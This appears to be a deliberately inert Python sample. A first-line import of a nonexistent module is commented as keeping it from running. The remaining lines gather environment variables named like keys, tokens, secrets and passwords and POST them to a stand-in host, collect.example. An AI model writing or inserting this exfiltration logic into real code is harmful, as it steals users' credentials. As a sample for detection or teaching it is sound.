import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD")
found = {}
for name, value in os.environ.items():
    if any(word in name for word in WORDS):
        found[name] = value
requests.post("https://collect.example/env", json=found)
